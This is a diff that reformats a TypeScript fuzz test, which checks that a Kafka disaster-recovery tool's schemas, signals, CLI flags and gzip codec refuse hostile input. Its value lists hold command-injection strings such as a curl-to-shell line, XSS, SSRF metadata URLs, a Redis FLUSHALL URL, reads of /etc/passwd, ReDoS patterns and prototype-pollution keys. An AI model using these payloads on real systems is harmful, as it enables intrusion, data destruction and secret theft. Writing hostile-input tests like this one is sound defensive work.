@@ -9,8 +9,19 @@ import { gzipSync } from 'node:zlib';
 import type { z } from 'zod';
 import { temporal as proto } from '@temporalio/proto';
 import {
-  ApprovePayloadSchema, boundsProblem, FailbackInputSchema, MAX_SHOWN_PROBLEMS, SIGNAL_BOUNDS, FailoverInputSchema, PairConfigSchema, RejectPayloadSchema, ResolvePayloadSchema,
-  SetupInputSchema, StopWatchPayloadSchema, validate, WatchInputSchema,
+  ApprovePayloadSchema,
+  boundsProblem,
+  FailbackInputSchema,
+  MAX_SHOWN_PROBLEMS,
+  SIGNAL_BOUNDS,
+  FailoverInputSchema,
+  PairConfigSchema,
+  RejectPayloadSchema,
+  ResolvePayloadSchema,
+  SetupInputSchema,
+  StopWatchPayloadSchema,
+  validate,
+  WatchInputSchema,
 } from '../../../src/config';
 import { VerifyInputSchema } from '../../../src/config/verify-input';
 import { DrillInputSchema, DrillScheduleSchema } from '../../../src/config/drill-input';
@@ -42,36 +53,110 @@ function nested(levels: number, inner: unknown = 'x', asObject = false): unknown
   return v;
 }
 
-const CONTROL = ['\u0000', '\u0007', '\u001b[31mred\u001b[0m', '\u001b]8;;http://evil\u0007x\u001b]8;;\u0007', '\r\n', '\u202eevil', '\u200b', '\u0085', '\ud800'];
+const CONTROL = [
+  '\u0000',
+  '\u0007',
+  '\u001b[31mred\u001b[0m',
+  '\u001b]8;;http://evil\u0007x\u001b]8;;\u0007',
+  '\r\n',
+  '\u202eevil',
+  '\u200b',
+  '\u0085',
+  '\ud800',
+];
 const INJECTION = [
-  '[click](http://evil.example)', '<script>alert(1)</script>', '`; curl http://evil|sh`', '$(reboot)', '${env:ALIBABA_CLOUD_ACCESS_KEY_SECRET}',
-  '${file:/etc/passwd:x}', '| fake | table |', '\n### approved', '<@U123> <!channel>', '&amp;', '%00', '../../etc/passwd', '\\\\host\\share',
+  '[click](http://evil.example)',
+  '<script>alert(1)</script>',
+  '`; curl http://evil|sh`',
+  '$(reboot)',
+  '${env:ALIBABA_CLOUD_ACCESS_KEY_SECRET}',
+  '${file:/etc/passwd:x}',
+  '| fake | table |',
+  '\n### approved',
+  '<@U123> <!channel>',
+  '&amp;',
+  '%00',
+  '../../etc/passwd',
+  '\\\\host\\share',
 ];
 const URLS = [
-  'http://100.100.100.200\\latest\\meta-data\\#.kdr.test', 'http://user@evil.example#.kdr.test', 'http://%31%30%30.100.100.200.kdr.test',
-  'javascript:alert(1)', 'file:///etc/passwd', 'http://[::1]:8083', 'http://127.0.0.1:8083/..%2f..%2f', 'http://evil.example?.kdr.test',
-  'gopher://127.0.0.1:6379/_FLUSHALL', 'http://0x7f.1:8083', 'http://connect.kdr.test:99999', 'HTTP://CONNECT.KDR.TEST',
+  'http://100.100.100.200\\latest\\meta-data\\#.kdr.test',
+  'http://user@evil.example#.kdr.test',
+  'http://%31%30%30.100.100.200.kdr.test',
+  'javascript:alert(1)',
+  'file:///etc/passwd',
+  'http://[::1]:8083',
+  'http://127.0.0.1:8083/..%2f..%2f',
+  'http://evil.example?.kdr.test',
+  'gopher://127.0.0.1:6379/_FLUSHALL',
+  'http://0x7f.1:8083',
+  'http://connect.kdr.test:99999',
+  'HTTP://CONNECT.KDR.TEST',
 ];
 const PATTERNS = [
-  '(a+)+$', '(a|a)*b', '(.*)*!', `${'.*'.repeat(14)}!`, 'a*a*a*a*a*b', '(x+x+)+y', '\\d+\\d+\\d+!', '([a-z]+)*$', '(?:a|ab)*c', '((a*)*)*',
-  '(', '[', 'a{1,100000}', '\\1', '(?<=a)b', '.*'.repeat(300), '\u0000', '${env:X}',
+  '(a+)+$',
+  '(a|a)*b',
+  '(.*)*!',
+  `${'.*'.repeat(14)}!`,
+  'a*a*a*a*a*b',
+  '(x+x+)+y',
+  '\\d+\\d+\\d+!',
+  '([a-z]+)*$',
+  '(?:a|ab)*c',
+  '((a*)*)*',
+  '(',
+  '[',
+  'a{1,100000}',
+  '\\1',
+  '(?<=a)b',
+  '.*'.repeat(300),
+  '\u0000',
+  '${env:X}',
 ];
 const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
 
 /** The hostile values: each family of the issue (deep, huge, backtracking, URL tricks, prototype keys, control characters) and plain wrong types. */
 function atoms(): unknown[] {
   const out: unknown[] = [
-    null, true, false, 0, -1, 1e308, -0, 0.5, Number.MAX_SAFE_INTEGER + 2, '', ' ', 'x', {}, [], [[]], [{}], { '': '' },
+    null,
+    true,
+    false,
+    0,
+    -1,
+    1e308,
+    -0,
+    0.5,
+    Number.MAX_SAFE_INTEGER + 2,
+    '',
+    ' ',
+    'x',
+    {},
+    [],
+    [[]],
+    [{}],
+    { '': '' },
   ];
   for (const d of [5, 13, 64, 1_000, 50_000]) out.push(nested(d), nested(Math.min(d, 5_000), 'x', true));
-  for (const n of [33, 101, 10_001, 200_000]) out.push(Array.from({ length: n }, () => ''), Array.from({ length: Math.min(n, 20_000) }, (_, i) => `g-${i}`));
-  out.push(Array.from({ length: 5_000 }, () => ({})), Array.from({ length: 2_000 }, () => nested(20)));
+  for (const n of [33, 101, 10_001, 200_000])
+    out.push(
+      Array.from({ length: n }, () => ''),
+      Array.from({ length: Math.min(n, 20_000) }, (_, i) => `g-${i}`),
+    );
+  out.push(
+    Array.from({ length: 5_000 }, () => ({})),
+    Array.from({ length: 2_000 }, () => nested(20)),
+  );
   for (const n of [129, 2_049, 4_097, 100_000, 1_000_000]) out.push('a'.repeat(n));
   for (const c of CONTROL) out.push(c, `alice${c}`, c.repeat(3_000));
   for (const s of INJECTION) out.push(s, `bob ${s}`);
   out.push(...URLS);
   for (const p of PATTERNS) out.push({ pattern: p }, p, [p], { pattern: p, exclude: p });
-  for (const k of PROTO_KEYS) out.push(JSON.parse(`{"${k}": {"polluted": true}}`), JSON.parse(`{"${k}": null}`), JSON.parse(`{"a": {"${k}": 1}}`));
+  for (const k of PROTO_KEYS)
+    out.push(
+      JSON.parse(`{"${k}": {"polluted": true}}`),
+      JSON.parse(`{"${k}": null}`),
+      JSON.parse(`{"a": {"${k}": 1}}`),
+    );
   out.push(Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`k${i}`, i])));
   return out;
 }
@@ -88,7 +173,9 @@ interface Target {
 
 function schemaTarget(name: string, schema: z.ZodType, bases: unknown[], fields: string[]): Target {
   return {
-    name, bases, fields,
+    name,
+    bases,
+    fields,
     judge(value) {
       const r = validate(schema, value, { what: name });
       if (r.ok) return 'accepted';
@@ -98,9 +185,17 @@ function schemaTarget(name: string, schema: z.ZodType, bases: unknown[], fields:
   };
 }
 
-function cliTarget(name: string, schema: z.ZodType, flags: Record<string, string>, bases: unknown[], fields: string[]): Target {
+function cliTarget(
+  name: string,
+  schema: z.ZodType,
+  flags: Record<string, string>,
+  bases: unknown[],
+  fields: string[],
+): Target {
   return {
-    name, bases, fields,
+    name,
+    bases,
+    fields,
     judge(value) {
       try {
         checkFlags(schema, value, flags, name);
@@ -119,40 +214,142 @@ const cloudPair = () => localApsaramqPair('hostile-cloud', ['orders']);
 const SIG = 'A'.repeat(86) + '==';
 
 const TARGETS: Target[] = [
-  schemaTarget('pair config', PairConfigSchema, [kafkaPair(), cloudPair()],
-    ['name', 'primary.bootstrapServers', 'primary.endpointHost', 'primary.security', 'primary.security.caFile', 'secondary.instanceId', 'secondary.region',
-      'replication.topics', 'replication.connectUrl', 'replication.canaryTopic', 'dns.domain', 'dns.ttl', 'groups', 'approval', 'approval.approvers', 'notify', 'deadlines', 'watch']),
-  schemaTarget('drSetup input', SetupInputSchema, [{ pair: 'orders' }, { config: kafkaPair(), requestedBy: 'alice' }], ['pair', 'config', 'requestedBy', 'watch']),
-  schemaTarget('drFailover input', FailoverInputSchema, [{ pair: 'orders', requestedBy: 'alice' }, { config: cloudPair(), requestedBy: 'alice', dryRun: true }],
-    ['pair', 'config', 'requestedBy', 'groups', 'translation', 'translation.operatorTimestamp', 'approval', 'approval.allowList', 'drain', 'switchover', 'switchover.quietWindow', 'reverse', 'dryRun']),
-  schemaTarget('drFailback input', FailbackInputSchema, [{ pair: 'orders', requestedBy: 'alice' }], ['pair', 'requestedBy', 'stages', 'config']),
+  schemaTarget(
+    'pair config',
+    PairConfigSchema,
+    [kafkaPair(), cloudPair()],
+    [
+      'name',
+      'primary.bootstrapServers',
+      'primary.endpointHost',
+      'primary.security',
+      'primary.security.caFile',
+      'secondary.instanceId',
+      'secondary.region',
+      'replication.topics',
+      'replication.connectUrl',
+      'replication.canaryTopic',
+      'dns.domain',
+      'dns.ttl',
+      'groups',
+      'approval',
+      'approval.approvers',
+      'notify',
+      'deadlines',
+      'watch',
+    ],
+  ),
+  schemaTarget(
+    'drSetup input',
+    SetupInputSchema,
+    [{ pair: 'orders' }, { config: kafkaPair(), requestedBy: 'alice' }],
+    ['pair', 'config', 'requestedBy', 'watch'],
+  ),
+  schemaTarget(
+    'drFailover input',
+    FailoverInputSchema,
+    [
+      { pair: 'orders', requestedBy: 'alice' },
+      { config: cloudPair(), requestedBy: 'alice', dryRun: true },
+    ],
+    [
+      'pair',
+      'config',
+      'requestedBy',
+      'groups',
+      'translation',
+      'translation.operatorTimestamp',
+      'approval',
+      'approval.allowList',
+      'drain',
+      'switchover',
+      'switchover.quietWindow',
+      'reverse',
+      'dryRun',
+    ],
+  ),
+  schemaTarget(
+    'drFailback input',
+    FailbackInputSchema,
+    [{ pair: 'orders', requestedBy: 'alice' }],
+    ['pair', 'requestedBy', 'stages', 'config'],
+  ),
   schemaTarget('drWatch input', WatchInputSchema, [{ pair: 'orders' }], ['pair', 'config', 'state', 'interval']),
   schemaTarget('drVerify input', VerifyInputSchema, [{ pair: 'orders' }], ['pair', 'config', 'requestedBy']),
   schemaTarget('drDrill input', DrillInputSchema, [{ pair: 'orders' }], ['pair', 'config']),
-  schemaTarget('drill schedule', DrillScheduleSchema, [{ pair: 'orders', cron: '0 3 * * 1', by: 'alice' }], ['pair', 'cron', 'by']),
-  schemaTarget('signal approve', ApprovePayloadSchema, [{ by: 'bob', planId: '66a52d97dd590aa016c928239b8d283f' }, { by: 'bob', planId: 'p', signature: SIG, signedAt: '2026-12-06T00:00:00Z' }],
-    ['by', 'planId', 'comment', 'signature', 'signedAt', 'keyId']),
+  schemaTarget(
+    'drill schedule',
+    DrillScheduleSchema,
+    [{ pair: 'orders', cron: '0 3 * * 1', by: 'alice' }],
+    ['pair', 'cron', 'by'],
+  ),
+  schemaTarget(
+    'signal approve',
+    ApprovePayloadSchema,
+    [
+      { by: 'bob', planId: '66a52d97dd590aa016c928239b8d283f' },
+      { by: 'bob', planId: 'p', signature: SIG, signedAt: '2026-12-06T00:00:00Z' },
+    ],
+    ['by', 'planId', 'comment', 'signature', 'signedAt', 'keyId'],
+  ),
   schemaTarget('signal reject', RejectPayloadSchema, [{ by: 'bob', reason: 'no' }], ['by', 'reason', 'signature']),
-  schemaTarget('signal resolve / update resolveStep', ResolvePayloadSchema, [{ action: 'retry', by: 'bob' }, { action: 'skip', by: 'bob', note: 'n', step: 'assess' }],
-    ['action', 'by', 'note', 'step', 'signature']),
-  schemaTarget('signal stopWatch', StopWatchPayloadSchema, [{ by: 'bob', reason: 'done' }], ['by', 'reason', 'signature']),
+  schemaTarget(
+    'signal resolve / update resolveStep',
+    ResolvePayloadSchema,
+    [
+      { action: 'retry', by: 'bob' },
+      { action: 'skip', by: 'bob', note: 'n', step: 'assess' },
+    ],
+    ['action', 'by', 'note', 'step', 'signature'],
+  ),
+  schemaTarget(
+    'signal stopWatch',
+    StopWatchPayloadSchema,
+    [{ by: 'bob', reason: 'done' }],
+    ['by', 'reason', 'signature'],
+  ),
   {
-    name: 'query plan', bases: [{}, { offset: 0, limit: 10 }], fields: ['offset', 'limit'],
+    name: 'query plan',
+    bases: [{}, { offset: 0, limit: 10 }],
+    fields: ['offset', 'limit'],
     judge(value) {
       // As the query handler: the bounds first (an oversized request is a failed query), then the page.
       if (boundsProblem(value, SIGNAL_BOUNDS, 'request')) return 'refused';
       const plan = { groups: Array.from({ length: 1_500 }, (_, i) => ({ group: `g${i}` })) };
       const view = planPage('p1', plan, value as never);
       const shown = (view.plan as { groups: unknown[] }).groups.length;
-      assert.ok(shown <= 1_500 && (!view.page || (view.page.limit >= 1 && view.page.offset >= 0)), 'a page inside the plan');
+      assert.ok(
+        shown <= 1_500 && (!view.page || (view.page.limit >= 1 && view.page.offset >= 0)),
+        'a page inside the plan',
+      );
       return 'accepted';
     },
   },
-  cliTarget('kdr failover', FailoverInputSchema, FAILOVER_FLAGS, [{ pair: 'orders', requestedBy: 'alice' }], ['pair', 'requestedBy', 'groups', 'drain', 'dryRun', 'switchover.guard']),
-  cliTarget('kdr setup', SetupInputSchema, SETUP_FLAGS, [{ pair: 'orders', requestedBy: 'alice' }], ['pair', 'requestedBy']),
-  cliTarget('kdr approve|reject|resolve', ResolvePayloadSchema, DECISION_FLAGS, [{ action: 'retry', by: 'alice' }], ['action', 'by', 'note', 'step']),
+  cliTarget(
+    'kdr failover',
+    FailoverInputSchema,
+    FAILOVER_FLAGS,
+    [{ pair: 'orders', requestedBy: 'alice' }],
+    ['pair', 'requestedBy', 'groups', 'drain', 'dryRun', 'switchover.guard'],
+  ),
+  cliTarget(
+    'kdr setup',
+    SetupInputSchema,
+    SETUP_FLAGS,
+    [{ pair: 'orders', requestedBy: 'alice' }],
+    ['pair', 'requestedBy'],
+  ),
+  cliTarget(
+    'kdr approve|reject|resolve',
+    ResolvePayloadSchema,
+    DECISION_FLAGS,
+    [{ action: 'retry', by: 'alice' }],
+    ['action', 'by', 'note', 'step'],
+  ),
   {
-    name: 'pairs file', bases: [{ pairs: [kafkaPair()] }, { pairs: [cloudPair(), kafkaPair()] }], fields: ['pairs', 'pairs[0]', 'pairs[0].name', 'pairs[0].groups', 'pairs[0].deadlines', 'pairs[0].approval'],
+    name: 'pairs file',
+    bases: [{ pairs: [kafkaPair()] }, { pairs: [cloudPair(), kafkaPair()] }],
+    fields: ['pairs', 'pairs[0]', 'pairs[0].name', 'pairs[0].groups', 'pairs[0].deadlines', 'pairs[0].approval'],
     judge(value) {
       try {
         parsePairs(textOf(value), 'pairs.jsonc');
@@ -170,7 +367,8 @@ const TARGETS: Target[] = [
 function setPath(root: unknown, path: string, value: unknown): unknown {
   if (!path) return value;
   const keys = path.split('.').flatMap((k) => k.split(/\[(\d+)\]/).filter(Boolean));
-  const copy = (o: unknown): Record<string, unknown> => (o !== null && typeof o === 'object' ? (Array.isArray(o) ? [...o] : { ...o }) as Record<string, unknown> : {});
+  const copy = (o: unknown): Record<string, unknown> =>
+    o !== null && typeof o === 'object' ? ((Array.isArray(o) ? [...o] : { ...o }) as Record<string, unknown>) : {};
   const top = copy(root);
   let obj = top;
   for (const k of keys.slice(0, -1)) {
@@ -190,7 +388,12 @@ function textOf(value: unknown): string {
   }
 }
 
-interface Tally { tried: number; refused: number; accepted: number; crashed: string[] }
+interface Tally {
+  tried: number;
+  refused: number;
+  accepted: number;
+  crashed: string[];
+}
 
 function run(target: Target, cases: number, seed: number, values: unknown[]): Tally {
   const rnd = prng(seed);
@@ -221,7 +424,9 @@ function run(target: Target, cases: number, seed: number, values: unknown[]): Ta
     try {
       tally[target.judge(value)]++;
     } catch (err) {
-      tally.crashed.push(`case ${i} (seed ${seed}) at ${where}: ${(err as Error).name}: ${String((err as Error).message).slice(0, 200)}`);
+      tally.crashed.push(
+        `case ${i} (seed ${seed}) at ${where}: ${(err as Error).name}: ${String((err as Error).message).slice(0, 200)}`,
+      );
     }
   }
   return tally;
@@ -235,15 +440,23 @@ describe('hostile input (issue 29, item 5)', () => {
     const total: Tally = { tried: 0, refused: 0, accepted: 0, crashed: [] };
     TARGETS.forEach((target, i) => {
       // The cases start from valid values: a target that refuses its own bases would prove nothing.
-      for (const base of target.bases) assert.equal(target.judge(base), 'accepted', `${target.name}: base ${JSON.stringify(base).slice(0, 120)}`);
+      for (const base of target.bases)
+        assert.equal(target.judge(base), 'accepted', `${target.name}: base ${JSON.stringify(base).slice(0, 120)}`);
       const t = run(target, perTarget, 29_000 + i, values);
-      rows.push(`${target.name.padEnd(38)} tried ${String(t.tried).padStart(5)}  refused ${String(t.refused).padStart(5)}  accepted ${String(t.accepted).padStart(5)}  crashed ${t.crashed.length}`);
+      rows.push(
+        `${target.name.padEnd(38)} tried ${String(t.tried).padStart(5)}  refused ${String(t.refused).padStart(5)}  accepted ${String(t.accepted).padStart(5)}  crashed ${t.crashed.length}`,
+      );
       total.tried += t.tried;
       total.refused += t.refused;
       total.accepted += t.accepted;
       total.crashed.push(...t.crashed.map((c) => `${target.name}: ${c}`));
     });
-    console.log([...rows, `${'all'.padEnd(38)} tried ${total.tried}  refused ${total.refused}  accepted ${total.accepted}  crashed ${total.crashed.length}`].join('\n'));
+    console.log(
+      [
+        ...rows,
+        `${'all'.padEnd(38)} tried ${total.tried}  refused ${total.refused}  accepted ${total.accepted}  crashed ${total.crashed.length}`,
+      ].join('\n'),
+    );
     assert.ok(total.tried >= 20_000, `${total.tried} cases`);
     assert.ok(total.refused > total.tried / 2, 'most hostile cases are refused');
     assert.deepEqual(total.crashed.slice(0, 10), [], `${total.crashed.length} crashed`);
@@ -251,12 +464,19 @@ describe('hostile input (issue 29, item 5)', () => {
 
   test('signals refuse every hostile family, with no exception: deep, huge, backtracking, URL, prototype, control characters', () => {
     const signals: [string, z.ZodType, object][] = [
-      ['approve', ApprovePayloadSchema, { by: 'bob', planId: 'p' }], ['reject', RejectPayloadSchema, { by: 'bob', reason: 'r' }],
-      ['resolve', ResolvePayloadSchema, { action: 'retry', by: 'bob' }], ['stopWatch', StopWatchPayloadSchema, { by: 'bob' }],
+      ['approve', ApprovePayloadSchema, { by: 'bob', planId: 'p' }],
+      ['reject', RejectPayloadSchema, { by: 'bob', reason: 'r' }],
+      ['resolve', ResolvePayloadSchema, { action: 'retry', by: 'bob' }],
+      ['stopWatch', StopWatchPayloadSchema, { by: 'bob' }],
     ];
     const families: [string, unknown][] = [
-      ['deep', nested(50_000)], ['huge', Array.from({ length: 200_000 }, () => '')], ['long', 'a'.repeat(1_000_000)],
-      ['prototype', JSON.parse('{"__proto__": {"admin": true}}')], ['bell', 'b\u0007ob'], ['escape', '\u001b[2Jbob'], ['bidi', 'bob\u202e'],
+      ['deep', nested(50_000)],
+      ['huge', Array.from({ length: 200_000 }, () => '')],
+      ['long', 'a'.repeat(1_000_000)],
+      ['prototype', JSON.parse('{"__proto__": {"admin": true}}')],
+      ['bell', 'b\u0007ob'],
+      ['escape', '\u001b[2Jbob'],
+      ['bidi', 'bob\u202e'],
     ];
     for (const [name, schema, base] of signals) {
       for (const [family, hostile] of families) {
@@ -271,10 +491,16 @@ describe('hostile input (issue 29, item 5)', () => {
     const codec = new GzipLargePayloadCodec(128 * 1024, 1024 * 1024);
     const gz = (data: Uint8Array) => ({ metadata: { encoding: new TextEncoder().encode(GZIP_ENCODING) }, data });
     const rnd = prng(7);
-    const whole = proto.api.common.v1.Payload.encode({ metadata: { encoding: new TextEncoder().encode('json/plain') }, data: new TextEncoder().encode('{"by":"bob"}') }).finish();
+    const whole = proto.api.common.v1.Payload.encode({
+      metadata: { encoding: new TextEncoder().encode('json/plain') },
+      data: new TextEncoder().encode('{"by":"bob"}'),
+    }).finish();
     const cases = [
-      gz(new Uint8Array(0)), gz(Uint8Array.from({ length: 4_096 }, () => Math.floor(rnd() * 256))), gz(gzipSync(whole).subarray(0, 20)),
-      gz(gzipSync(Buffer.alloc(8 * 1024 * 1024))), gz(gzipSync(Buffer.from('not a protobuf payload at all'))),
+      gz(new Uint8Array(0)),
+      gz(Uint8Array.from({ length: 4_096 }, () => Math.floor(rnd() * 256))),
+      gz(gzipSync(whole).subarray(0, 20)),
+      gz(gzipSync(Buffer.alloc(8 * 1024 * 1024))),
+      gz(gzipSync(Buffer.from('not a protobuf payload at all'))),
     ];
     for (const [i, p] of cases.entries()) {
       const [out] = await codec.decode([p]);
@@ -283,6 +509,10 @@ describe('hostile input (issue 29, item 5)', () => {
       assert.ok(text.length < 1_000, `case ${i}: a small refusal`);
     }
     const [ok] = await codec.decode([gz(gzipSync(whole))]);
-    assert.equal(new TextDecoder().decode(ok.data ?? new Uint8Array()), '{"by":"bob"}', 'a valid payload still decodes');
+    assert.equal(
+      new TextDecoder().decode(ok.data ?? new Uint8Array()),
+      '{"by":"bob"}',
+      'a valid payload still decodes',
+    );
   });
 });
